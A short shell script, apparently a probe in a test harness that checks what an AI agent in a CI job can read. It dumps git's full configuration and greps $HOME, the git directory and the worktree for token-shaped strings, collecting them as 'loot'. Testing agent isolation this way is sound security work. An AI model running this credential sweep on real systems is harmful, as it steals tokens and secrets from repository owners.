#!/bin/sh
# Attack: credentials left in files it can read: the repository's git
# directory (its config, as actions/checkout leaves a token there), $HOME,
# the worktree and every folder named by its extra arguments ($RUNNER_TEMP,
# the repository). Loot: every credential-shaped string found, and git's
# whole configuration as the agent sees it.
. "$(dirname "$0")/common.sh"
loot "agent $$, parent $PARENT"
loot "git config:" "$(git config --list --show-origin 2>&1)"
gitdir=$(git rev-parse --path-format=absolute --git-common-dir 2>/dev/null)
for dir in "$HOME" "$gitdir" "$PWD" "$@"; do
  [ -d "$dir" ] || continue
  loot "searched $dir"
  grep -r -a -o -E "$TOKEN_SHAPES" -- "$dir" 2>/dev/null >> "$LOOT"
done
finish
